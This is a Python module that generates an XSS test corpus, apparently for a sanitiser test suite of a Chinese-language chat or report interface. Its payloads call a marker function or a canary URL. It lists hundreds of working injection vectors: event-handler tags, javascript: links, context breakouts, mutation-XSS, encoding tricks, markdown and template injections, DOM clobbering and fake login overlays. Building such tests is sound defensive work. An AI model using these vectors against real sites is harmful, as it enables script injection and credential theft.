"""Texts that want to run in somebody's browser, to fetch something, or to look like a part of the page.

Each calls `zwned(n)` where it runs and asks the canary for `/c/n` where it fetches, so that a test sees which one it was.
Some are written by hand, others made by a few rules: events on tags, addresses in places, ways out of a context, disguises.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass

HOOK = "zwned"
_JS, _URL, _NUMBER = "@JS@", "@URL@", "@N@"
_IMG = "<img src=x onerror=@JS@>"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text."""

    kind: str
    template: str

    def text(self, number: int, canary: str) -> str:
        """The text, calling the hook with `number` and the server at `canary`."""
        filled = self.template.replace(_JS, f"{HOOK}({number})").replace(_URL, f"{canary}/c/{number}")
        return filled.replace(_NUMBER, str(number))


_TAGS_WITH_EVENTS = (
    *("img src=x onerror", "svg onload", "svg/onload", "body onload", "details open ontoggle", "video src=x onerror"),
    *("audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus"),
    *("button autofocus onfocus", "a tabindex=1 autofocus onfocus", "marquee onstart", "iframe onload", "style onload"),
    *("object data=x onerror", "embed src=x onload", "link rel=stylesheet href=x onerror", "script src=x onerror"),
    *(
        "video><source onerror",
        "image src=x onerror",
        "p onmouseover",
        "div onpointerenter",
        "b onclick",
        "i onfocusin",
    ),
    *(
        "span tabindex=1 onfocus",
        "table background=x onmouseenter",
        "math onmousemove",
        "xss contenteditable onbeforeinput",
    ),
    *("div draggable=true ondragstart", "dialog open onclose", "form onsubmit", "h1 onwheel", "td onauxclick"),
    *(
        "svg><animate onbegin",
        "svg><set onbegin",
        "svg><animate attributeName=x dur=1s onend",
        "keygen autofocus onfocus",
    ),
    *(
        "p style=animation:x onanimationstart",
        "div style=transition:1s ontransitionend",
        "input type=image src=x onerror",
    ),
)
_SCHEMES = (
    *("javascript:@JS@", "JaVaScRiPt:@JS@", "java\tscript:@JS@", "&#106;avascript:@JS@", "javascript&colon;@JS@"),
    *("\x01javascript:@JS@", "javascript:/*--></script><svg/onload=@JS@>", "vbscript:@JS@", "@DATA@"),
)
_PLACES = (
    *("<a href='@A@'>点我</a>", "<iframe src='@A@'></iframe>", "<form action='@A@'><button>登录</button></form>"),
    *("<svg><a xlink:href='@A@'><text y=9>点我</text></a></svg>", "[点我](<@A@>)", "<object data='@A@'></object>"),
)
_CONTEXTS = (
    *("</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</xmp>", "-->", "--!>", "]]>"),
    *("?>", '">', "'>", "`>", '"}]}</script>', '\\"}</script>', "*/", "</p></article></details></div>", '">]<', "</a>"),
)
_BY_HAND: dict[str, tuple[str, ...]] = {
    "tag": (
        *(
            "<script>@JS@</script>",
            "<ScRiPt>@JS@</sCrIpT>",
            "<script src=@URL@></script>",
            "<script type=module>@JS@</script>",
        ),
        *(
            "<script/x>@JS@</script >",
            "<<script>@JS@//<</script>",
            "<script>\n@JS@\n</script>",
            "<svg><script>@JS@</script></svg>",
        ),
        *("<math><script>@JS@</script></math>", "<script>@JS@", "<scr<script>ipt>@JS@</scr</script>ipt>"),
        *(
            "<iframe srcdoc='<script>parent.@JS@</script>'></iframe>",
            "<iframe srcdoc='&lt;img src=x onerror=parent.@JS@&gt;'></iframe>",
        ),
        *(
            "<frameset onload=@JS@><frame src=x></frameset>",
            "<portal src=@URL@></portal>",
            "<fencedframe src=@URL@></fencedframe>",
        ),
    ),
    "fetch": (
        *(
            "<img src=@URL@>",
            "<img srcset='@URL@ 1x'>",
            "<picture><source srcset=@URL@><img></picture>",
            "<video poster=@URL@></video>",
        ),
        *("<link rel=stylesheet href=@URL@>", "<link rel=preload as=image href=@URL@>", "<link rel=icon href=@URL@>"),
        *(
            "<style>@import '@URL@';</style>",
            "<style>*{background:url(@URL@)}</style>",
            "<div style='background:url(@URL@)'>x</div>",
        ),
        *(
            "<table background=@URL@><td>x</table>",
            "<object data=@URL@></object>",
            "<embed src=@URL@>",
            "<iframe src=@URL@></iframe>",
        ),
        *(
            "<audio src=@URL@ autoplay></audio>",
            "<video><track default src=@URL@></video>",
            "<svg><image href=@URL@ /></svg>",
        ),
        *("<svg><use href='@URL@#x'/></svg>", "<svg><feImage href=@URL@ /></svg>", "<input type=image src=@URL@>"),
        *(
            "<meta http-equiv=refresh content='0;url=@URL@'>",
            "<base href=@URL@/>",
            "<body background=@URL@>",
            "<a ping=@URL@ href=#zw-a1>点我</a>",
        ),
        *(
            "<style>input[value^=a]{background:url(@URL@)}</style>",
            "<link rel=manifest href=@URL@>",
            "<link rel=dns-prefetch href=@URL@>",
        ),
    ),
    "look": (
        "<form action=@URL@><input name=user><input name=password type=password><button>重新登录</button></form>",
        "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>登录已过期</div>",
        "<dialog open>请输入密码<input type=password></dialog>",
        "<input form=x formaction=@URL@ type=submit value=登录>",
        "<button formaction=javascript:@JS@ type=submit>登录</button>",
        "<a href=@URL@ target=_blank>报告原文</a>",
        "<a href=@URL@ rel=opener target=_top>报告原文</a>",
        "<label for=zw-box>点这里</label><select><option>一</select>",
        "<div class='zw-dialog zw-lost' style='position:fixed'>连接断开</div>",
        "<button class='zw-chip' data-ask='删除' data-do='new' onclick=@JS@>新对话</button>",
        "<details class='zw-change' open><summary onclick=@JS@>换一个</summary></details>",
        "<a class='zw-cite' href='javascript:@JS@'>〔1〕</a>",
        "<article class='zw-card' id='zw-c1-1' data-report='../../x' onclick=@JS@>〔1〕</article>",
        "〔1〕<b onclick=@JS@>5.5%</b>〔原文〕〔1〕",
        "甲区2025年目标：5.5%<img src=x onerror=@JS@>〔1〕",
    ),
    "clobber": (
        *("<a id=zw-box></a><a id=zw-box name=x></a>", "<form id=gradio_config><input name=root></form>"),
        *("<img name=querySelector>", "<form id=x><input name=attributes><input name=innerHTML></form>"),
        *(
            "<a id=zhengwen href=javascript:@JS@>x</a>",
            "<div id=question><textarea>x</textarea></div>",
            "<input id=memory name=body>",
        ),
        *("<iframe name=self srcdoc=x></iframe>", "<object name=document></object>"),
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=@JS@>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@JS@&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=@JS@>'>",
        "<svg><title><style><img src='</style><img src=x onerror=@JS@>'></title></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@JS@>",
        "<select><template><img src=x onerror=@JS@></template></select>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=@JS@></annotation-xml></math>",
        "<svg><foreignObject><img src=x onerror=@JS@></foreignObject></svg>",
        "<template><script>@JS@</script></template>",
        "<template shadowrootmode=open><img src=x onerror=@JS@></template>",
        "<xmp><p title='</xmp><img src=x onerror=@JS@>'>",
        "<listing>&lt;img src=x onerror=@JS@&gt;</listing>",
        "<plaintext><img src=x onerror=@JS@>",
        "<noembed><img title='</noembed><img src=x onerror=@JS@>'></noembed>",
        "<p><table><td><svg><desc><table><img src=x onerror=@JS@>",
        "<b><p><a href=x><style><!--</style></a><img src=x onerror=@JS@>-->",
        "<img alt='`><img src=x onerror=@JS@>`'>",
        "<table><caption><select><img src=x onerror=@JS@></select></caption></table>",
        "<svg><style>&lt;/style&gt;&lt;img src=x onerror=@JS@&gt;</style></svg>",
    ),
    "comment": (
        *("<!--><img src=x onerror=@JS@>-->", "<!---><img src=x onerror=@JS@>", "<!-- --!><img src=x onerror=@JS@>"),
        *("<![CDATA[<img src=x onerror=@JS@>]]>", "<?xml-stylesheet href='javascript:@JS@'?><img src=x onerror=@JS@>"),
        *(
            "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=@JS@>'>]>&y;",
            "<!--[if gte IE 4]><script>@JS@</script><![endif]-->",
        ),
        *("<% <img src=x onerror=@JS@> %>", "</ <img src=x onerror=@JS@>>", "<!><img src=x onerror=@JS@>"),
    ),
    "entity": (
        *(
            "&lt;script&gt;@JS@&lt;/script&gt;",
            "&#60;img src=x onerror=@JS@&#62;",
            "&#x3c;img src=x onerror=@JS@&#x3e;",
        ),
        *(
            "&lt;img src=x onerror=@JS@&gt",
            "&amp;lt;img src=x onerror=@JS@&amp;gt;",
            "&#0000060img src=x onerror=@JS@&#62",
        ),
        *(
            "<img src=x onerror=&#122;wned&lpar;@N@&rpar;>",
            "%3Cimg%20src%3Dx%20onerror%3D@JS@%3E",
            "%253Cimg src=x onerror=@JS@%253E",
        ),
        *("\\u003cimg src=x onerror=@JS@\\u003e", "\\x3cimg src=x onerror=@JS@\\x3e", "\\74img src=x onerror=@JS@\\76"),
        *(
            "+ADw-img src=x onerror=@JS@+AD4-",
            "＜img src=x onerror=@JS@＞",
            "\ufe64img src=x onerror=@JS@\ufe65",
            "‹img src=x onerror=@JS@›",
        ),
        *(
            "\xc0\xbcimg src=x onerror=@JS@\xc0\xbe",
            "\xbcimg src=x onerror=@JS@\xbe",
            "¼script¾@JS@¼/script¾",
            "\u560aimg src=x onerror=@JS@",
        ),
    ),
    "markdown": (
        *(
            "[点我](javascript:@JS@)",
            "![图](@URL@)",
            '![图](x"onerror="@JS@)',
            '[点我](x "a"onmouseover="@JS@")',
            "<@URL@>",
        ),
        *(
            "[点我][1]\n\n[1]: javascript:@JS@",
            "\n\n<img src=x onerror=@JS@>\n\n",
            "# 标题\n<script>@JS@</script>",
            "- <img src=x onerror=@JS@>",
        ),
        *(
            "| a | b |\n|---|---|\n| <img src=x onerror=@JS@> | b |",
            "`<img src=x onerror=@JS@>`",
            "```html\n<img src=x onerror=@JS@>\n```",
        ),
        *(
            "```\n```\n<img src=x onerror=@JS@>",
            "    <img src=x onerror=@JS@>\n\n<img src=x onerror=@JS@>",
            "[![x](@URL@)](javascript:@JS@)",
        ),
        *(
            "```mermaid\ngraph TD;A-->B;click A call @JS@\n```",
            "```mermaid\n%%{init:{'securityLevel':'loose'}}%%\ngraph TD;A[<img src=x onerror=@JS@>]\n```",
        ),
        *(
            "$$\\href{javascript:@JS@}{x}$$",
            "$\\includegraphics{@URL@}$",
            '\\(\\htmlData{x=" onmouseover=@JS@}{y}\\)',
            "$$\\unicode{<img src=x onerror=@JS@>}$$",
        ),
        *(
            "[^1]\n\n[^1]: <img src=x onerror=@JS@>",
            "见 @URL@ 。",
            'https://x.cn/"onmouseover="@JS@',
            '<x@x.cn"onclick=@JS@>',
            "<javascript:@JS@>",
        ),
    ),
    "template": (
        *(
            "${@JS@}",
            "{{constructor.constructor('@JS@')()}}",
            "{{@JS@}}",
            "<%= @JS@ %>",
            "#{@JS@}",
            "[[${@JS@}]]",
            "{@html '<img src=x onerror=@JS@>'}",
        ),
        *(
            "`+@JS@+`",
            "'+@JS@+'",
            '"-@JS@-"',
            "');@JS@;//",
            "\\');@JS@;//",
            '{"__proto__":{"innerHTML":"<img src=x onerror=@JS@>"}}',
            "\u2028@JS@\u2029",
        ),
        *(
            "<div v-html=\"'x'\" @click=@JS@>x</div>",
            "<div ng-app ng-csp ng-click=@JS@>x</div>",
            "<div x-data x-init=@JS@></div>",
            "<div data-bind='click:@JS@'>x</div>",
        ),
    ),
    "control": (
        *(
            "<scr\x00ipt>@JS@</scr\x00ipt>",
            "<img\x0csrc=x\x0conerror=@JS@>",
            "<img\x0bsrc=x\x0bonerror=@JS@>",
            "<\x00img src=x onerror=@JS@>",
        ),
        *(
            "<im\u200bg src=x onerror=@JS@>",
            "<img src=x on\u200derror=@JS@>",
            "\u202e>@JS@=rorreno x=crs gmi<\u202c",
            "\ufeff<img src=x onerror=@JS@>",
        ),
        *(
            "<img\x85src=x\x85onerror=@JS@>",
            "<img\u3000src=x\u3000onerror=@JS@>",
            "<img\xa0src=x onerror=@JS@>",
            "\x1b]8;;javascript:@JS@\x07点我\x1b]8;;\x07",
        ),
        *(
            "<img src=x onerror\x00=@JS@>",
            "<img src=x onerror=\x00@JS@>",
            "\r\n\r\n<script>@JS@</script>",
            "\ud83d<img src=x onerror=@JS@>",
        ),
        *("\u2066<img src=x onerror=@JS@>\u2069", "\U000e003cimg src=x onerror=@JS@\U000e003e<img src=x onerror=@JS@>"),
    ),
    "overlong": (
        *(
            "a" * 300 + _IMG,
            "<" * 200 + "img src=x onerror=@JS@>",
            "<b>" * 60 + _IMG,
            "<img " + "x " * 120 + "src=x onerror=@JS@>",
        ),
        *(
            "&" * 150 + _IMG,
            "<!--" * 60 + "-->" + _IMG,
            "\n" * 60 + _IMG,
            "<a " * 50 + _IMG,
            f"<img src='{'x' * 250}' onerror=@JS@>",
        ),
        *("长" * 200 + _IMG, "</div>" * 40 + _IMG),
    ),
}


def _made() -> Iterator[Payload]:
    for start in _TAGS_WITH_EVENTS:
        yield Payload("event", f"<{start}=@JS@>x")
    for disguise in (
        str.upper,
        lambda s: s.replace(" ", "/"),
        lambda s: s.replace(" ", "\n"),
        lambda s: s.replace("=", " = "),
    ):
        for start in ("img src=x onerror", "svg onload", "details open ontoggle"):
            yield Payload("event", f"<{disguise(start)}='@JS@'>x")
    page = base64.b64encode(b"<script>parent.zwned(0)</script>").decode()
    for place in _PLACES:
        for scheme in _SCHEMES:
            yield Payload("address", place.replace("@A@", scheme.replace("@DATA@", f"data:text/html;base64,{page}")))
    for context in _CONTEXTS:
        yield Payload("breakout", context + _IMG)
    for quote in "\"'`":
        for name in (
            "onmouseover",
            "onfocus",
            "style",
            "autofocus onfocus",
            "id=zw-c1-1 onclick",
            "data-ask=x onclick",
        ):
            yield Payload("attribute", f"x{quote} {name}={quote}@JS@")


PAYLOADS: tuple[Payload, ...] = tuple(
    dict.fromkeys((*_made(), *(Payload(kind, one) for kind, some in _BY_HAND.items() for one in some)))
)
"""The whole corpus."""

_QUICK_OF_A_KIND = 3


def quick() -> tuple[int, ...]:
    """Numbers of those that are tried each time: a few of each kind, spread over it."""
    chosen: list[int] = []
    for kind in dict.fromkeys(payload.kind for payload in PAYLOADS):
        numbers = [number for number, payload in enumerate(PAYLOADS) if payload.kind == kind]
        step = max(len(numbers) // _QUICK_OF_A_KIND, 1)
        chosen += numbers[::step][:_QUICK_OF_A_KIND]
    return tuple(chosen)
